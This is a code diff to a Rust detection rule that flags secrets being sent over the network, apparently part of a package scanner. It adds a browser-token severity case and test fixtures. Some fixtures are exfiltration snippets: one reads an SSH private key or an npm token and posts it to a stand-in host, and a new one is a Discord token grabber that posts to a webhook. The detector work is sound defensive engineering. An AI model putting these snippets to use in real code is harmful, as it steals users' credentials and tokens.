@@ -64,7 +64,7 @@ impl Rule for SecretsToNetwork {
                     Severity::Critical
                 }
                 "credential-file" | "browser-data" => Severity::High,
-                "publish-token" | "env-secret" if collector => Severity::Critical,
+                "publish-token" | "env-secret" | "browser-token" if collector => Severity::Critical,
                 "publish-token" if install && dest.is_some() && !vendor => Severity::Critical,
                 "env-secret" if install && dest.is_some() && !vendor => Severity::High,
                 _ => continue,
@@ -114,12 +114,14 @@ mod tests {
                     "const fs = require('fs'); const os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://keys.invalid/k', { method: 'POST', body: key });",
                 ),
                 Case::InstallJs("const t = process.env.NPM_TOKEN;\nrequire('axios').post('https://t.invalid/x', { t });"),
+                Case::Js("function grab() {\n  const f = document.createElement('iframe');\n  const r = new XMLHttpRequest();\n  r.open('POST', 'https://discord.com/api/webhooks/1/abc');\n  r.send(JSON.stringify({ content: 'Token: ' + f.contentWindow.localStorage.token }));\n}"),
             ],
             &[
                 Case::Js("const key = process.env.POSTMARK_API_TOKEN;\nfetch('https://api.postmarkapp.invalid/email', { headers: { 'X-Token': key } });"),
                 Case::Js("const child = require('child_process').spawn('node', ['x.js'], { env: { ...process.env, A: '1' } });"),
                 Case::Js("fetch('http://127.0.0.1:8080/env', { method: 'POST', body: JSON.stringify(process.env) });"),
                 Case::Js("console.log(JSON.stringify(process.env));"),
+                Case::Js("const t = localStorage.getItem('auth_token');\nfetch('https://api.example.invalid/me', { headers: { Authorization: 'Bearer ' + t } });"),
             ],
         );
     }
